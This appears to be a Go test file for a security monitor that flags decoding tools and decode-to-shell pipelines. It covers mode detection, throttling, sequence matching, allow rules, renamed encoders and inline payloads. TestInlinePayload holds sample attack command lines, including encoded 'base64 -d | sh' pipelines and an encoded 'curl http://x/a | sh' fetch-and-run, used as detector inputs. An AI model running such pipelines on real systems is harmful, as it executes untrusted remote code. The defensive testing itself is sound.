package detect

import (
	"reflect"
	"testing"
	"time"

	"github.com/encwatch/encwatch/audit"
)

func TestToolMode(t *testing.T) {
	tests := []struct {
		argv []string
		want string
	}{
		{[]string{"base64", "-d"}, "decode"},
		{[]string{"base64", "--decode"}, "decode"},
		{[]string{"base64", "--dec"}, "decode"},
		{[]string{"base64", "-D"}, "decode"},
		{[]string{"base64", "-di"}, "decode"},
		{[]string{"base64", "-w", "0"}, "encode"},
		{[]string{"base64", "-w0", "f"}, "encode"},
		{[]string{"base64", "--", "-d"}, "encode"},
		{[]string{"base64", "--version"}, ""},
		{[]string{"xxd", "-p"}, "encode"},
		{[]string{"xxd", "-r", "-p"}, "decode"},
		{[]string{"xxd", "-rp"}, "decode"},
		{[]string{"xxd", "-r"}, "decode"},
		{[]string{"openssl", "enc", "-d", "-a"}, "decode"},
		{[]string{"openssl", "enc", "-base64"}, "encode"},
		{[]string{"openssl", "base64", "-d"}, "decode"},
		{[]string{"openssl", "aes-256-cbc", "-d", "-in", "x"}, ""},
		{[]string{"openssl", "rand", "-base64", "32"}, ""},
		{[]string{"basenc", "--base32", "--decode"}, "decode"},
		{[]string{"uudecode", "f"}, "decode"},
		{[]string{"base32", "-d"}, "decode"},
		{[]string{"python3", "-m", "base64", "-d"}, "decode"},
		{[]string{"ls", "-d"}, ""},
	}
	for _, tt := range tests {
		tool := basename(tt.argv[0])
		if got, _ := toolMode(tool, tt.argv); got != tt.want {
			t.Errorf("toolMode(%q) = %q, want %q", tt.argv, got, tt.want)
		}
	}
}

func names(alerts []Alert) []string {
	var out []string
	for _, a := range alerts {
		out = append(out, a.Signature.Name)
	}
	return out
}

func TestThrottleReportsHeldBack(t *testing.T) {
	spec := encoderSpec
	spec.Throttles = []ThrottleSpec{{Per: "parent_pid", Max: 2, Window: time.Minute}}
	e := NewEngine(mustCompile(t, PolicySpec{Signatures: []SignatureSpec{spec}}), "h", fixedNow)
	var got []int
	var throttled []uint64
	for i := range 5 {
		ev := execEvent("/usr/bin/base64", "base64", "-d")
		ev.Time = evTime.Add(time.Duration(i) * time.Second)
		a := e.Evaluate(ev)
		got = append(got, len(a))
		if len(a) > 0 {
			throttled = append(throttled, a[0].Throttled)
		}
	}
	// The window starts over a minute later: the summary of the one that
	// ended reports the 3 identical runs held, and the next alert says so.
	ev := execEvent("/usr/bin/base64", "base64", "-d")
	ev.Time = evTime.Add(61 * time.Second)
	a := e.Evaluate(ev)
	if want := []uint64{0, 0}; !reflect.DeepEqual(throttled, want) {
		t.Errorf("Throttled of the first two alerts = %v, want %v: nothing held before them", throttled, want)
	}
	if want := []int{1, 1, 0, 0, 0}; !reflect.DeepEqual(got, want) || len(a) != 2 || a[1].Throttled != 3 {
		t.Errorf("alerts per event = %v then %d (throttled %+v), want %v then a summary and 1 with Throttled 3", got, len(a), a, want)
	}
	if len(a) > 0 && (a[0].Signature.Name != SuppressedSignature || a[0].Throttled != 3) {
		t.Errorf("first alert after the window = %s with count %d, want %s with count 3", a[0].Signature.Name, a[0].Throttled, SuppressedSignature)
	}
	if st := e.Stats(); st.Throttled["data_encoder_exec"] != 3 || st.Alerts["data_encoder_exec"] != 3 {
		t.Errorf("Stats = %+v, want 3 alerts and 3 throttled", st)
	}
}

func seqPolicy(t *testing.T, ordered bool) *Policy {
	return mustCompile(t, PolicySpec{Signatures: []SignatureSpec{{
		Name: "pipe", Importance: Critical,
		Sequence: &SequenceSpec{By: "parent", Within: 3 * time.Second, Ordered: ordered, Steps: []StepSpec{
			{Name: "decoder", Conditions: Conditions{"executables": []string{"base64"}, "mode": "decode"}},
			{Name: "shell", Conditions: Conditions{"executables": []string{"sh"}, "max_args": 0}},
		}},
	}}})
}

func TestSequence(t *testing.T) {
	at := func(ev *audit.Event, ms int, pid, ppid int) *audit.Event {
		ev.Time, ev.PID, ev.PPID = evTime.Add(time.Duration(ms)*time.Millisecond), pid, ppid
		return ev
	}
	tests := []struct {
		name    string
		ordered bool
		evs     []*audit.Event
		want    []int
	}{
		{"decoder then shell", false, []*audit.Event{at(execEvent("/usr/bin/base64", "base64", "-d"), 0, 10, 5), at(execEvent("/usr/bin/sh", "sh"), 2, 11, 5)}, []int{0, 1}},
		{"shell first, unordered", false, []*audit.Event{at(execEvent("/usr/bin/sh", "sh"), 0, 11, 5), at(execEvent("/usr/bin/base64", "base64", "-d"), 1, 10, 5)}, []int{0, 1}},
		{"shell first, ordered", true, []*audit.Event{at(execEvent("/usr/bin/sh", "sh"), 0, 11, 5), at(execEvent("/usr/bin/base64", "base64", "-d"), 1, 10, 5)}, []int{0, 0}},
		{"other parent", false, []*audit.Event{at(execEvent("/usr/bin/base64", "base64", "-d"), 0, 10, 5), at(execEvent("/usr/bin/sh", "sh"), 2, 11, 6)}, []int{0, 0}},
		{"too late", false, []*audit.Event{at(execEvent("/usr/bin/base64", "base64", "-d"), 0, 10, 5), at(execEvent("/usr/bin/sh", "sh"), 4000, 11, 5)}, []int{0, 0}},
		{"encode is not a step", false, []*audit.Event{at(execEvent("/usr/bin/base64", "base64"), 0, 10, 5), at(execEvent("/usr/bin/sh", "sh"), 2, 11, 5)}, []int{0, 0}},
		{"failed exec counts", false, []*audit.Event{at(execEvent("/usr/bin/base64", "base64", "-d"), 0, 10, 5), func() *audit.Event {
			ev := at(execEvent("/usr/bin/bash", "sh"), 2, 11, 5)
			ev.Success = false
			return ev
		}()}, []int{0, 1}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := NewEngine(seqPolicy(t, tt.ordered), "h", fixedNow)
			var got []int
			for _, ev := range tt.evs {
				got = append(got, len(e.Evaluate(ev)))
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("alerts per event = %v, want %v", got, tt.want)
			}
		})
	}
}

// Two hosts in one stream (a replay, a relay) have pids of their own: a
// decoder on one and a shell under the same parent pid on the other are
// no pair.
func TestSequenceKeepsHostsApart(t *testing.T) {
	on := func(node string, ev *audit.Event, pid int) *audit.Event {
		ev.Node, ev.PID, ev.PPID = node, pid, 5
		return ev
	}
	e := NewEngine(seqPolicy(t, false), "h", fixedNow)
	if got := e.Evaluate(on("alpha", execEvent("/usr/bin/base64", "base64", "-d"), 10)); len(got) != 0 {
		t.Fatalf("alpha's decoder raised %v", names(got))
	}
	if got := e.Evaluate(on("beta", execEvent("/usr/bin/sh", "sh"), 11)); len(got) != 0 {
		t.Fatalf("beta's shell under the same parent pid paired with alpha's decoder: %v", names(got))
	}
	got := e.Evaluate(on("alpha", execEvent("/usr/bin/sh", "sh"), 12))
	if len(got) != 1 || got[0].Host != "alpha" {
		t.Fatalf("alpha's shell raised %v, want alpha's pipe alert", got)
	}
}

func TestAllowCountsReason(t *testing.T) {
	p := mustCompile(t, PolicySpec{
		Signatures: []SignatureSpec{encoderSpec},
		Allows:     []AllowSpec{{Name: "ci", Reason: "CI decodes its secrets", Conditions: Conditions{"uid": []uint32{1001}}}},
	})
	e := NewEngine(p, "h", fixedNow)
	ev := execEvent("/usr/bin/base64", "base64", "-d")
	ev.UID = 1001
	if got := e.Evaluate(ev); got != nil {
		t.Errorf("allowed exec raised %v", names(got))
	}
	ev2 := execEvent("/usr/bin/base64", "base64", "-d")
	if got := e.Evaluate(ev2); len(got) != 1 {
		t.Errorf("other uid raised %v, want data_encoder_exec", names(got))
	}
	if st := e.Stats(); st.Suppressed["CI decodes its secrets"] != 1 {
		t.Errorf("Stats.Suppressed = %v, want 1 for the reason", st.Suppressed)
	}
	if _, err := Compile(PolicySpec{Allows: []AllowSpec{{Name: "x", Conditions: Conditions{"uid": []uint32{0}}}}}); err == nil {
		t.Error("Compile accepted an allow without a reason")
	}
}

// fakeFiles knows SHA-256 sums by executable path.
type fakeFiles map[string]string

func (f fakeFiles) Identify(ev *audit.Event, sizes []int64) ([]FileID, Lookup) {
	if s, ok := f[ev.Exe]; ok {
		return []FileID{{SHA256: s}}, Known
	}
	return nil, Known
}

func TestRenamedEncoder(t *testing.T) {
	p := mustCompile(t, PolicySpec{
		Signatures: []SignatureSpec{encoderSpec, {Name: "renamed", Importance: High, Conditions: Conditions{"renamed_encoder": true}}},
		Encoders:   []EncoderIdentity{{Name: "base64", Path: "/usr/bin/base64", Dev: "fe:01", Inode: 77, Size: 10, SHA256: "abc"}},
	})
	e := NewEngine(p, "h", fixedNow)
	e.SetFiles(fakeFiles{"/tmp/x": "abc"})

	moved := execEvent("/opt/y", "y", "-d")
	moved.Paths = []audit.Path{{Name: "/opt/y", Dev: "fe:01", Inode: 77}}
	copied := execEvent("/tmp/x", "x", "-d")
	real := execEvent("/usr/bin/base64", "base64", "-d")
	real.Paths = []audit.Path{{Name: "/usr/bin/base64", Dev: "fe:01", Inode: 77}}
	for _, tt := range []struct {
		ev   *audit.Event
		want []string
	}{
		{moved, []string{"data_encoder_exec", "renamed"}},
		{copied, []string{"data_encoder_exec", "renamed"}},
		{real, []string{"data_encoder_exec"}},
		{execEvent("/usr/bin/ls", "ls"), nil},
	} {
		if got := names(e.Evaluate(tt.ev)); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Evaluate(%s) = %v, want %v", tt.ev.Exe, got, tt.want)
		}
	}
}

func TestInlinePayload(t *testing.T) {
	tests := []struct {
		argv     []string
		kind     string
		encoding string
	}{
		{[]string{"sh", "-c", "echo IyEvYmluL3NoCmlkCg== | base64 -d | sh"}, "shebang", "base64"},
		{[]string{"bash", "-lc", "echo 7f454c46020101000000000000000000 | xxd -r -p > /tmp/e"}, "elf", "hex"},
		{[]string{"python3", "-c", "exec(__import__('base64').b64decode('aWQ7IGN1cmwgaHR0cDovL3gvYSB8IHNo'))"}, "shell", "base64"},
		{[]string{"perl", "-e", `print "\x23\x21\x2f\x62\x69\x6e\x2f\x73\x68"`}, "shebang", "hex"},
		{[]string{"bash", "-c", "echo SXlFdlltbHVMMkpoYzJnS2FXUUs= | base64 -d"}, "blob:shebang", "base64"},
	}
	for _, tt := range tests {
		pi := inspect(tt.argv, tt.argv[0])
		p := pi.best()
		if p == nil || p.Kind != tt.kind || p.Encoding != tt.encoding {
			t.Errorf("inspect(%q) payload = %+v, want %s %s", tt.argv, p, tt.encoding, tt.kind)
		}
	}
	if got := preview([]byte("a\x00\n\\é"), 10); got != `a\x00\n\\\xc3\xa9` {
		t.Errorf("preview = %q", got)
	}
}
